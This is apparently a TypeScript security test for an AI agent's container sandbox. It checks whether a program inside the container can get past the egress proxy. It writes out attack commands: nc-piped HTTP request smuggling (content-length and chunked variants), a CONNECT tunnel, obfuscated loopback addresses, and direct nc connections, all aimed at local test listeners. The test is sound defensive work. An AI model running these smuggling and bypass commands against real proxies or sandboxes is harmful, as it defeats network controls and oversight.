import { spawnSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { chmod, mkdir } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import { join } from 'node:path'
import { nodeEnv } from '../../../node-agent/env.ts'
import { INPUTS_FOLDER } from '../../../node-agent/guest/image-inputs.ts'
import { testImageFolder } from '../../../node-agent/isolation/testing/test-image.ts'
import { nodeSandboxes } from '../../../node-agent/sandboxes.ts'
import { EGRESS_PORT } from '../../../runtime/execution/sandbox/sandboxes.ts'
import { engineFixture } from '../../../runtime/execution/testing/engine-fixture.ts'
import { readAllowEntry } from '../../../shared/http/outbound/allow-list.ts'
import { outboundRule } from '../../../shared/http/outbound/outbound-rule.ts'
import { silentLog } from '../../../shared/log/log.ts'
import type { Arena } from '../arena.ts'
import type { Attack } from '../attempt.ts'
import { requestsIn } from './egress.ts'

const has = (program: string) => spawnSync(program, ['--version']).status === 0

const missing = (): string | undefined => {
  if (process.getuid?.() !== 0) return 'containers need root'
  if (!has('runc')) return 'runc is not installed: apt-get install runc'
  return existsSync(join(INPUTS_FOLDER, 'inputs.lock'))
    ? undefined
    : 'there is nothing to build a guest image from: bash scripts/setup-host.sh'
}

/** A server that keeps what comes on each connection. */
async function listener() {
  const heard: string[] = []
  const server = createServer(socket => {
    const at = heard.push('') - 1
    socket.on('error', () => undefined)
    socket.on('data', piece => {
      heard[at] += piece.toString('latin1')
      socket.write('HTTP/1.1 200 OK\r\ncontent-length: 4\r\nconnection: close\r\n\r\nafar')
    })
  })
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  return { server, port: (server.address() as AddressInfo).port, heard }
}

/** A program in a container that tries every way out at once: past the proxy, through it to other places, and behind an open call. */
async function fromInside(here: Arena): Promise<string | undefined> {
  const folder = join(here.folder, 'sandbox')
  await mkdir(folder)
  for (const walked of [here.folder, folder]) await chmod(walked, 0o711)
  const [remote, closed] = [await listener(), await listener()]
  const env = nodeEnv.parse({ NODE_AGENT_STATE_DIR: folder, NODE_AGENT_IMAGE_DIR: await testImageFolder() })
  const sandboxes = nodeSandboxes({
    env,
    workspaces: join(folder, 'workspaces'),
    log: silentLog(),
    rule: outboundRule([readAllowEntry(`127.0.0.1:${remote.port}`)!]),
    resolve: async () => [{ address: '127.0.0.1', family: 4 }],
  })
  const egress = [{ host: 'far.example', ports: [remote.port], methods: ['GET' as const] }]
  const fixture = await engineFixture({
    sandboxes,
    manifest: { isolation: 'runc', tools: ['exec'], egress },
    egressDecided: async () => undefined,
  })
  const hidden = 'POST /SMUGGLED HTTP/1.1\\r\\nhost: far.example\\r\\ncontent-length: 0\\r\\n\\r\\n'
  const behind = (line: string, body: string) =>
    `(printf 'GET http://far.example:${remote.port}/behind HTTP/1.1\\r\\nhost: a\\r\\n${line}\\r\\n\\r\\n${body}'; sleep 1) | nc -w 3 127.0.0.1 ${EGRESS_PORT}`
  const commands = [
    `wget -q -O - http://far.example:${remote.port}/open`,
    behind('content-length: 65', hidden),
    behind('transfer-encoding: chunked', `41\\r\\n${hidden}\\r\\n0\\r\\n\\r\\n`),
    behind('x-a: b', hidden),
    `(printf 'CONNECT far.example:${remote.port} HTTP/1.1\\r\\nhost: a\\r\\n\\r\\n${hidden}'; sleep 1) | nc -w 3 127.0.0.1 ${EGRESS_PORT}`,
    ...['127.0.0.1', '0x7f.1', '[::ffff:127.0.0.1]', 'other.example'].map(
      host => `wget -q -T 2 -O - 'http://${host}:${closed.port}/'`,
    ),
    ...[remote.port, closed.port].map(port => `echo out | nc -w 2 127.0.0.1 ${port}`),
  ]
  try {
    await fixture.engine.start()
    const prompt = commands.map(command => `/call exec ${JSON.stringify({ command })}`).join('\n')
    const id = await fixture.create({ prompt })
    fixture.engine.wake()
    const run = await fixture.until(id, undefined, 60_000)
    if (run.status !== 'succeeded') return `its run is ${run.status}: ${run.error?.message}`
  } finally {
    await fixture.close()
    await sandboxes.close()
    for (const { server } of [remote, closed]) server.close()
  }
  if (closed.heard.length > 0) return `a port that no rule opens heard ${closed.heard.join()}`
  const lines = remote.heard.flatMap(bytes => requestsIn(bytes).map(({ line }) => line))
  for (const path of ['open', 'behind']) {
    if (!lines.includes(`GET /${path} HTTP/1.1`)) return `the call of /${path} that a rule opens did not come through`
  }
  const other = lines.find(line => !/^GET \/(open|behind) HTTP/.test(line))
  return other === undefined ? undefined : `the far end heard ${other}`
}

export const sandbox: readonly Attack[] = [
  { name: 'from inside a sandbox', attempts: [{ name: 'every way out', run: fromInside }], skipped: missing() },
]
